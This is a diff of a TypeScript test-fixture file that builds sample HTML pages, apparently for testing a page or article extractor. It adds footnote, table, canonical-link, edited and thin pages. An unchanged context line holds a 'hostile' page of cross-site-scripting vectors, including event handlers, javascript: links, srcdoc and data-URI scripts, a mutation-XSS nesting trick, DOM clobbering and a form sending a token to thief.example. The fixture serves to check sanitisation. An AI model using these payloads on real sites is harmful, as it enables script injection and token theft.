@@ -92,6 +92,32 @@ const hostile = page({
   body: `<p onclick="window.stolen = 1">${paragraphs[0]}</p><script>window.stolen = 2</script><img src="x" onerror="window.stolen = 3" alt="bait"><p>${paragraphs[1]} <a href="javascript:window.stolen=4">a link that runs</a></p><iframe srcdoc="<script>parent.stolen = 5</script>"></iframe><svg onload="window.stolen = 6"><script>window.stolen = 7</script></svg><p style="position:fixed;inset:0">${paragraphs[2]}</p><math><mtext><table><mglyph><style><img src=x onerror="window.stolen = 8"></style></mglyph></table></mtext></math><form action="https://thief.example/"><input name="token"><button>Send</button></form><p>${paragraphs[3]}</p><object data="data:text/html,<script>parent.stolen = 9</script>"></object><a id="articles" name="app">clobber</a><p>${paragraphs[4]}</p>`,
 });
 
+/** The same article under another address, which names the first as its own. */
+const canonical = code.replace("<head>", '<head><link rel="canonical" href="/code">');
+
+const footnotes = page({
+  title: "What the margins say",
+  body: `<p>${paragraphs[0]}<sup><a href="#n1" id="r1">1</a></sup></p><h2 id="part">The second part</h2><p>${paragraphs[1]} See <a href="#part">the second part</a>.</p>${paragraphs
+    .slice(2)
+    .map((text) => `<p>${text}</p>`)
+    .join("")}<ol><li id="n1">Measured on two machines in one rack. <a href="#r1">↩</a></li></ol>`,
+});
+
+const tables = page({
+  title: "Forty allocators, side by side",
+  body: `<p>${paragraphs[0]}</p><p>${paragraphs[1]}</p><table><thead><tr>${Array.from({ length: 12 }, (_, column) => `<th>Measure ${column + 1}</th>`).join("")}</tr></thead><tbody>${Array.from({ length: 40 }, (_, row) => `<tr>${Array.from({ length: 12 }, (_, column) => `<td>${row * 12 + column} ms</td>`).join("")}</tr>`).join("")}</tbody></table><p>${paragraphs[5]}</p><p>${paragraphs[6]}</p>`,
+});
+
+/** A page that is edited between two visits: a paragraph before, another word, other markup. */
+export const editedPage = (edited: boolean): string =>
+  page({
+    title: "The wire, revisited",
+    body: `${edited ? `<p>Since this was written the numbers have changed; they are given below as measured today.</p>` : ""}<p>${paragraphs[0]}</p><p>${paragraphs[2]?.replace("two queues at two counters", edited ? "<b>two queues</b> at two counters" : "two queues at <em>two counters</em>")}</p><p>${paragraphs[3]}</p><p>${paragraphs[4]}</p><p>${paragraphs[6]}</p>`,
+  });
+
+/** A page whose text is loaded by a script into a list of teasers: what is found is short against all of it. */
+const thin = `<!doctype html><html lang="en"><head><title>Front page</title></head><body><div class="teasers">${paragraphs.map((text, index) => `<div class="t${index}"><a href="/x${index}">${text}</a></div>`).join("")}</div><article><p>Read on for more about all of this, in one short line.</p></article></body></html>`;
+
 /** HTML pages by path. */
 export const htmlPages: Readonly<Record<string, string>> = {
   "/long": long(),
@@ -100,6 +126,10 @@ export const htmlPages: Readonly<Record<string, string>> = {
   "/pictures": pictures,
   "/base": base,
   "/hostile": hostile,
+  "/canonical": canonical,
+  "/footnotes": footnotes,
+  "/tables": tables,
+  "/thin": thin,
   "/empty": `<!doctype html><title>Nothing</title><body><script src="/app.js"></script><div id="root"></div></body>`,
 };
 
